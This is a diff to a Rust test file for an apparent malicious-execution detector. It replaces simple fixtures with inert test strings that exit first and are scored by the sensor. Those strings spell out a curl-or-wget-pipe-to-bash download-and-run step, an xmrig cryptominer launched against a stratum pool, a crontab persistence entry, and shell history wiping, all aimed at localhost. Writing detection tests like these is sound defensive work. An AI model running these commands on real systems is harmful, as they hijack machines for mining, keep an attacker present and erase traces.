@@ -9,8 +9,15 @@ use std::process::{Child, Command, Stdio};
 
 use serde_json::{json, Value};
 
-const DROPPER: &str =
-    "#!/bin/bash\nexit 0\n# never reached:\ncurl -s http://127.0.0.1:9/stage2 | bash\n";
+/// Inert: exits before anything else; what follows is what the sensor reads.
+const DROPPER: &str = "#!/bin/bash\nexit 0\n# never reached:\n\
+cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x\n\
+nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &\n\
+(crontab -l 2>/dev/null; echo \"* * * * * curl -s http://127.0.0.1:9/s.sh | bash\") | crontab -\n\
+history -c; rm -f ~/.bash_history\n";
+/// Scored malicious as a `-c` literal (and inert: it exits first).
+const MALICIOUS_INLINE: &str =
+    "exit 0; curl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; /tmp/.k";
 const BENIGN: &str = "#!/bin/sh\necho rotating logs\n";
 
 /// A process standing in for an interpreter: alive while the sensor looks.
@@ -100,7 +107,7 @@ fn run_record_then_replay_reproduces_the_findings_exactly() {
 
     let holder = Holder::spawn(work);
     let pid = holder.pid();
-    let code = "wget -q -O- http://127.0.0.1:9/m.sh | sh";
+    let code = MALICIOUS_INLINE;
     let events = vec![
         event(
             1,
@@ -170,7 +177,7 @@ fn run_record_then_replay_reproduces_the_findings_exactly() {
 
     let live = std::fs::read_to_string(&live_out).unwrap();
     assert_eq!(live.lines().count(), 3);
-    assert!(live.contains("curl -s http://127.0.0.1:9/stage2"), "{live}");
+    assert!(live.contains("stratum+tcp://127.0.0.1:3333"), "{live}");
 
     // The trace holds every exec (benign and unreadable ones too).
     let trace_text = std::fs::read_to_string(&trace).unwrap();
@@ -241,7 +248,7 @@ fn duration_stops_a_run_whose_source_never_ends() {
         .spawn()
         .unwrap();
     let mut stdin = child.stdin.take().unwrap();
-    let code = "curl -s http://127.0.0.1:9/x | sh";
+    let code = MALICIOUS_INLINE;
     let ev = event(
         1,
         std::process::id(),
@@ -263,7 +270,7 @@ fn duration_stops_a_run_whose_source_never_ends() {
 #[test]
 fn bad_event_lines_are_reported_and_skipped() {
     let dir = tempfile::tempdir().unwrap();
-    let code = "curl -s http://127.0.0.1:9/x | sh";
+    let code = MALICIOUS_INLINE;
     let good = event(
         1,
         std::process::id(),
